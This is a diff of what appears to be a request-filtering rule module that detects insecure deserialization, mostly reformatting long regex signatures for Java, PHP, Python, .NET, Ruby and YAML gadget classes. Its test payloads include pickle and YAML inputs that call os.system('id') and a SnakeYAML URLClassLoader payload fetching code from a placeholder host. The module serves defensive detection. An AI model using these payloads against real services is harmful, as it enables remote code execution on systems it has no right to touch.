@@ -31,7 +31,7 @@ RULE = AttackRule(
         Payload("cos\nsystem\n(S'id'\ntR.", "form data"),
         Payload("gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "cookie state"),
         Payload("!!python/object/apply:os.system ['id']"),
-        Payload("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://192.0.2.1/\"]]]]"),
+        Payload('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://192.0.2.1/"]]]]'),
         Payload("AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=", "form state"),
         Payload('{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', "body"),
         Payload("--- !ruby/object:Gem::Installer\ni: x\n", "body application/x-yaml"),
@@ -50,47 +50,72 @@ RULE = AttackRule(
 SIGNATURES = (
     Signature(
         id="java",
-        pattern=rb"\brO0AB[QXY]|\baced0005(?:7[0-9a-f])|\xac\xed\x00\x05[\x70-\x7e]|\bH4sIAAAAAAAA\w{0,4}(?:FvzloG0|J1bW)|<java\b[^>]*class\s*=\s*[\"']java\.beans\.XMLDecoder|<object\s+class\s*=\s*[\"']java\.lang\.(?:Runtime|ProcessBuilder)",
+        pattern=rb"\brO0AB[QXY]|\baced0005(?:7[0-9a-f])|\xac\xed\x00\x05[\x70-\x7e]|\bH4sIAAAAAAAA\w{0,4}(?:FvzloG0"
+        rb"|J1bW)|<java\b[^>]*class\s*=\s*[\"']java\.beans\.XMLDecoder"
+        rb"|<object\s+class\s*=\s*[\"']java\.lang\.(?:Runtime|ProcessBuilder)",
         reason="a serialised object of Java",
         where=REQUEST,
     ),
     Signature(
         id="java-classes",
-        pattern=rb"com\.sun\.rowset\.JdbcRowSetImpl|org\.apache\.(?:commons\.collections4?\.(?:functors|Transformer|map\.LazyMap|keyvalue)|xalan\.xsltc\.trax|commons\.beanutils\.BeanComparator|commons\.configuration2?\.JNDIConfiguration|shiro\.jndi|tomcat\.dbcp|ibatis\.datasource\.jndi|bcel\.internal|openjpa\.ee)"
-        rb"|com\.sun\.org\.apache\.(?:xalan|bcel)\.internal|javax\.management\.BadAttributeValueExpException|org\.codehaus\.groovy\.runtime\.(?:ConvertedClosure|MethodClosure)|org\.springframework\.(?:beans\.factory\.ObjectFactory|context\.support\.(?:ClassPath|FileSystem)XmlApplicationContext|aop\.config\.MethodLocatingFactoryBean)"
-        rb"|com\.mchange\.v2\.c3p0\.\w{0,40}(?:DataSource|WrapperConnectionPool)|java\.beans\.EventHandler|ch\.qos\.logback\.core\.db\.(?:JNDI|DriverManager)\w*|com\.zaxxer\.hikari\.HikariConfig|org\.hibernate\.jmx|sun\.reflect\.annotation\.AnnotationInvocationHandler|\bjava\.net\.URLClassLoader\b\s*[\[(\"']|javax\.script\.ScriptEngineManager\s*[\[(\"']",
+        pattern=rb"com\.sun\.rowset\.JdbcRowSetImpl|org\.apache\.(?:commons\.collections4?\.(?:functors|Transformer"
+        rb"|map\.LazyMap|keyvalue)|xalan\.xsltc\.trax|commons\.beanutils\.BeanComparator"
+        rb"|commons\.configuration2?\.JNDIConfiguration|shiro\.jndi|tomcat\.dbcp|ibatis\.datasource\.jndi"
+        rb"|bcel\.internal|openjpa\.ee)"
+        rb"|com\.sun\.org\.apache\.(?:xalan|bcel)\.internal|javax\.management\.BadAttributeValueExpException"
+        rb"|org\.codehaus\.groovy\.runtime\.(?:ConvertedClosure|MethodClosure)"
+        rb"|org\.springframework\.(?:beans\.factory\.ObjectFactory|context\.support\.(?:ClassPath"
+        rb"|FileSystem)XmlApplicationContext|aop\.config\.MethodLocatingFactoryBean)"
+        rb"|com\.mchange\.v2\.c3p0\.\w{0,40}(?:DataSource|WrapperConnectionPool)|java\.beans\.EventHandler"
+        rb"|ch\.qos\.logback\.core\.db\.(?:JNDI|DriverManager)\w*|com\.zaxxer\.hikari\.HikariConfig"
+        rb"|org\.hibernate\.jmx|sun\.reflect\.annotation\.AnnotationInvocationHandler"
+        rb"|\bjava\.net\.URLClassLoader\b\s*[\[(\"']|javax\.script\.ScriptEngineManager\s*[\[(\"']",
         reason="a class that is known as a gadget",
         confirm=lambda found: _is_object(found),
     ),
     Signature(
         id="php",
-        pattern=rb"(?:^|[\"';{}:=\s|])(?:O|C):\+?\d{1,5}:\s*\\?\"[\w\\]{1,100}\\?\":\+?\d{1,6}:\s*\{|(?:^|/)a:\d{1,5}:\{(?:i:\d{1,9};|s:\d{1,6}:\\?\")|\bTzo\d[\w+/]{12}|\bphar://",
+        pattern=rb"(?:^|[\"';{}:=\s|])(?:O|C):\+?\d{1,5}:\s*\\?\"[\w\\]{1,100}\\?\":\+?\d{1,6}:\s*\{|(?:^"
+        rb"|/)a:\d{1,5}:\{(?:i:\d{1,9};|s:\d{1,6}:\\?\")|\bTzo\d[\w+/]{12}|\bphar://",
         reason="a serialised object of PHP",
         where=TEXTS,
         confirm=lambda found: len(found.text) <= 65_536,
     ),
     Signature(
         id="python",
-        pattern=rb"\bc(?:os|posix|nt|subprocess|__builtin__|builtins|sys|commands|pty|runpy|importlib)\r?\n\w{2,30}\r?\n|\bgA[JMNQRSU][\w+/]{1,60}(?:jBXBvc2l4|cG9zaXg|c3VicHJvY2Vzc|X19idWlsdGlu|YnVpbHRpbnM|c3lzdGVt|cG9wZW4)|\x80[\x02-\x05](?:c|\x95.{8}\x8c).{0,12}(?:posix|os|subprocess|builtins|__builtin__|nt)\b|!!python/(?:object|name|module|tuple|str:)\S*?|\bY29z[\w+/]{4,20}",
+        pattern=rb"\bc(?:os|posix|nt|subprocess|__builtin__|builtins|sys|commands|pty|runpy"
+        rb"|importlib)\r?\n\w{2,30}\r?\n|\bgA[JMNQRSU][\w+/]{1,60}(?:jBXBvc2l4|cG9zaXg|c3VicHJvY2Vzc"
+        rb"|X19idWlsdGlu|YnVpbHRpbnM|c3lzdGVt|cG9wZW4)|\x80[\x02-\x05](?:c|\x95.{8}\x8c).{0,12}(?:posix|os"
+        rb"|subprocess|builtins|__builtin__|nt)\b|!!python/(?:object|name|module|tuple|str:)\S*?"
+        rb"|\bY29z[\w+/]{4,20}",
         reason="a pickled object or a YAML tag of Python",
         where=REQUEST,
         confirm=lambda found: _is_pickle(found),
     ),
     Signature(
         id="dotnet",
-        pattern=rb"AAEAAAD/////AQAAAA|\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00|[\"']\$type[\"']\s*:\s*[\"']System\.(?:Windows\.Data\.ObjectDataProvider|Diagnostics\.Process|Configuration\.Install|Management\.Automation|Security\.(?:Principal|Claims)|Data\.Services|IO\.(?:FileInfo|DirectoryInfo)|Web\.Security|Activities|Xaml|Collections\.Generic\.SortedSet)|\bObjectDataProvider\b.{0,200}\b(?:MethodName|ObjectInstance)\b|System\.(?:Windows\.Data\.ObjectDataProvider|Management\.Automation\.PSObject|Configuration\.Install\.AssemblyInstaller|Activities\.Presentation\.WorkflowDesigner)\b|<ResourceDictionary\b.{0,300}ObjectDataProvider",
+        pattern=rb"AAEAAAD/////AQAAAA|\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00"
+        rb"|[\"']\$type[\"']\s*:\s*[\"']System\.(?:Windows\.Data\.ObjectDataProvider|Diagnostics\.Process"
+        rb"|Configuration\.Install|Management\.Automation|Security\.(?:Principal|Claims)|Data\.Services"
+        rb"|IO\.(?:FileInfo|DirectoryInfo)|Web\.Security|Activities|Xaml|Collections\.Generic\.SortedSet)"
+        rb"|\bObjectDataProvider\b.{0,200}\b(?:MethodName|ObjectInstance)\b"
+        rb"|System\.(?:Windows\.Data\.ObjectDataProvider|Management\.Automation\.PSObject"
+        rb"|Configuration\.Install\.AssemblyInstaller|Activities\.Presentation\.WorkflowDesigner)\b"
+        rb"|<ResourceDictionary\b.{0,300}ObjectDataProvider",
         reason="a serialised object of .NET",
         where=REQUEST,
     ),
     Signature(
         id="ruby-and-node",
-        pattern=rb"!ruby/(?:object|hash|struct|regexp|class|module|exception|array|sym|range):?[\w:]{0,60}|\x04\x08o:[\x06-\x40]\w{2}|\bBAhvOg\w{4}|_\$\$ND_FUNC\$\$_|\bBAhb[CG]\w{4}",
+        pattern=rb"!ruby/(?:object|hash|struct|regexp|class|module|exception|array|sym|range):?[\w:]{0,60}"
+        rb"|\x04\x08o:[\x06-\x40]\w{2}|\bBAhvOg\w{4}|_\$\$ND_FUNC\$\$_|\bBAhb[CG]\w{4}",
         reason="a serialised object of Ruby or Node.js",
         where=REQUEST,
     ),
     Signature(
         id="yaml",
-        pattern=rb"!!(?:javax?\.|com\.|org\.|sun\.|ch\.)[\w.$]{3,120}|!<!?tag:yaml\.org,2002:(?:python|java|ruby)|!!js/(?:function|undefined|regexp)",
+        pattern=rb"!!(?:javax?\.|com\.|org\.|sun\.|ch\.)[\w.$]{3,120}|!<!?tag:yaml\.org,2002:(?:python|java|ruby)"
+        rb"|!!js/(?:function|undefined|regexp)",
         reason="a YAML tag that names a class",
     ),
 )
@@ -101,7 +126,10 @@ _UPLOADED = (Origin.UPLOAD, Origin.OPAQUE, Origin.TEXT)
 def _is_object(found: Found) -> bool:
     """The class is named as a type and not told of: in a stack trace, or a text about it."""
     text = found.text
-    return len(text) <= 256 or any(mark in text[:8_192] for mark in (b"@type", b"@class", b'"class"', b"!!", b"\xac\xed", b"<object", b"java.lang.Class", b"$type"))
+    return len(text) <= 256 or any(
+        mark in text[:8_192]
+        for mark in (b"@type", b"@class", b'"class"', b"!!", b"\xac\xed", b"<object", b"java.lang.Class", b"$type")
+    )
 
 
 def _is_pickle(found: Found) -> bool:
